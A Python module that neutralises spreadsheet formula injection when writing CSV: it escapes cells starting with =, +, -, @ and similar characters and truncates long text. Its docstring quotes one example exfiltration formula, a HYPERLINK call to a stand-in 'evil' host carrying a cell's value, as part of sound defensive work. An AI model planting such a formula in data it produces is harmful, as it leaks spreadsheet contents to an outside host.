"""CSV for spreadsheets: no live formulas, no megabyte cells.

A spreadsheet treats a cell starting with = + - @ (or a tab / carriage return
before one) as a formula: `=HYPERLINK("http://evil/?"&A1, "click")` in a data
value would run in the annotator's spreadsheet. Every text cell and header that
starts with one of those characters (or its full-width form) gets a leading
single quote, the OWASP-recommended neutralisation; numbers stay numbers (a
negative number is not a formula). Text cells are cut at `max_chars` with an
ellipsis.
"""

from __future__ import annotations

import io
import math
from numbers import Number
from typing import TYPE_CHECKING, Any

from monitor.textcut import cut

if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

__all__ = ["FORMULA_START", "MAX_CELL_CHARS", "neutralise_cell", "safe_csv"]

# = + - @ tab CR LF, and the full-width = + - @ that some spreadsheets also read as formulas
FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
MAX_CELL_CHARS = 1000


def neutralise_cell(value: Any, max_chars: int = MAX_CELL_CHARS) -> Any:
    """A value safe to write to a CSV cell: numbers and missing values unchanged, text cut and formula-escaped."""
    if value is None or isinstance(value, bool):
        return value
    if isinstance(value, Number):
        if isinstance(value, float) and math.isnan(value):
            return value
        return value
    text = cut(value, max_chars, tag=False)
    if text and text[0] in FORMULA_START:
        text = "'" + text
    return text


def safe_csv(df: pd.DataFrame, max_chars: int = MAX_CELL_CHARS) -> str:
    """`df` as CSV text with every header and text cell neutralised (see the module docstring)."""
    import pandas as pd

    out = df.copy()
    out.columns = [neutralise_cell(str(c), max_chars) for c in out.columns]
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if pd.api.types.is_numeric_dtype(col.dtype) or pd.api.types.is_bool_dtype(col.dtype):
            continue
        if pd.api.types.is_datetime64_any_dtype(col.dtype):
            continue
        out.isetitem(i, col.map(lambda v: neutralise_cell(v, max_chars), na_action="ignore"))
    buf = io.StringIO()
    out.to_csv(buf, index=False)
    return buf.getvalue()
